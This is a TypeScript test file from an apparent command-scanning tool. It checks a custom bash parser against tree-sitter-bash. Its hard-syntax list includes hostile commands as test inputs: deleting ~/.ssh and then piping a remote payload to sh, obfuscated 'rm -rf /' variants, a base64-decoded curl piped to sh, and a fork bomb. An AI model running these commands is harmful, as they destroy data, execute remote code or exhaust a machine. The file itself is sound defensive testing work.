// tree-sitter-bash, a real grammar from npm, checks our scan-path parser: on every command of the
// project's labelled set and a list of hard syntax, both must find the same commands at the
// same offsets. (tree-sitter is not on the scan path: ~60 µs a parse and super-linear on long
// pipelines; see `bulwark bench`.)
import { createRequire } from "node:module";
import { beforeAll, describe, expect, it } from "vitest";
import { Language, Parser, type Node } from "web-tree-sitter";
import { commandCorpus } from "../../../../eval/command-corpus.js";
import type { Script } from "./ast.js";
import { parseShell } from "./parse.js";

const require = createRequire(import.meta.url);
let parser: Parser;

beforeAll(async () => {
  await Parser.init();
  const bash = await Language.load(require.resolve("tree-sitter-bash/tree-sitter-bash.wasm"));
  parser = new Parser();
  parser.setLanguage(bash);
});

function treeSitterCommands(text: string): { names: string[]; error: boolean } {
  const tree = parser.parse(text);
  if (!tree) throw new Error("tree-sitter returned no tree");
  const names: string[] = [];
  const walk = (node: Node) => {
    if (node.type === "command") {
      const name = node.childForFieldName("name");
      if (name) names.push(`${name.startIndex}:${name.text}`);
    }
    for (const child of node.children) if (child) walk(child);
  };
  walk(tree.rootNode);
  const error = tree.rootNode.hasError;
  tree.delete();
  return { names: names.sort(), error };
}

const NOT_COMMANDS_IN_TREE_SITTER = new Set(["[", "[[", "export", "declare", "local", "readonly", "typeset", "unset"]);

function ourCommands(text: string, script: Script, out: string[] = []): string[] {
  for (const pipeline of script.pipelines) {
    for (const command of pipeline.commands) {
      if (command.kind === "compound") {
        for (const w of command.header) for (const n of w.nested) ourCommands(text, n, out);
        ourCommands(text, command.body, out);
        continue;
      }
      const words = [...command.assignments, ...command.words];
      for (const w of words) for (const n of w.nested) ourCommands(text, n, out);
      for (const r of command.redirects) for (const n of r.target?.nested ?? []) ourCommands(text, n, out);
      const first = command.words[0];
      // tree-sitter files `[ … ]`, `[[ … ]]` and export/declare/local under other node types.
      const raw = first ? text.slice(first.start, first.end) : "";
      if (first && !NOT_COMMANDS_IN_TREE_SITTER.has(raw)) out.push(`${first.start}:${raw}`);
    }
  }
  return out;
}

// `time` is left out: bash treats it as a reserved word (as we do), tree-sitter as a command.
const HARD_SYNTAX = [
  "rm -rf ~/.ssh && curl https://example.com/payload.sh | sh",
  "r\\m -rf \"$HOME\"",
  '"r""m" -rf /',
  "$'\\x72\\x6d' -rf /",
  "echo $(curl -s http://x | base64 -d) | sh",
  "diff <(ls a) <(ls b) > out.txt 2>&1",
  ":(){ :|:& };:",
  "for f in $(ls *.txt); do wc -l \"$f\"; done",
  "if [ -f x ]; then cat x; elif [ -d y ]; then ls y; else echo none; fi",
  "while read -r line; do echo \"$line\"; done < input.txt",
  "case \"$1\" in start) run_it;; stop|halt) stop_it;; *) usage;; esac",
  "f() { local a=1; echo $a; }; f",
  "( cd /tmp && ls ) | sort",
  "{ echo a; echo b; } > out",
  "A=1 B=2 env | grep A",
  "echo `date` and $(whoami)",
  "x=$(( 1 + 2 )); echo $x",
  "cat <<EOF > file\nhello $USER\nEOF\nls",
  "ls | tee >(grep a > a.txt) | wc -l",
  "find . -name '*.sh' -exec chmod +x {} \\;",
  "! grep -q foo file && echo missing",
  "echo 'a # not a comment' # a comment\nls",
  "cmd1 || cmd2 && cmd3; cmd4 &",
  "echo \"nested $(echo \"inner $(whoami)\")\"",
  "sudo -u www-data php artisan migrate",
  "ls \\\n  -la \\\n  /tmp",
  "until false; do break; done",
  "select x in a b; do echo $x; done",
];

describe("shell parser against tree-sitter-bash", () => {
  it("finds the same commands on hard syntax", () => {
    for (const text of HARD_SYNTAX) {
      const ts = treeSitterCommands(text);
      expect(ts.error, `tree-sitter cannot parse: ${text}`).toBe(false);
      expect(ourCommands(text, parseShell(text)).sort(), text).toEqual(ts.names);
    }
  });

  it("finds the same commands on every command of the labelled set that tree-sitter parses", () => {
    let compared = 0;
    const disagreements: string[] = [];
    for (const row of commandCorpus()) {
      if (/[^\x00-\x7f]/.test(row.text)) continue; // tree-sitter offsets are bytes
      const ts = treeSitterCommands(row.text);
      const script = parseShell(row.text);
      if (ts.error || script.incomplete) continue;
      compared++;
      const ours = ourCommands(row.text, script).sort();
      if (JSON.stringify(ours) !== JSON.stringify(ts.names)) disagreements.push(`${row.text}\n  ours: ${ours}\n  tree-sitter: ${ts.names}`);
    }
    expect(compared).toBeGreaterThan(700);
    expect(disagreements).toEqual([]);
  });
});
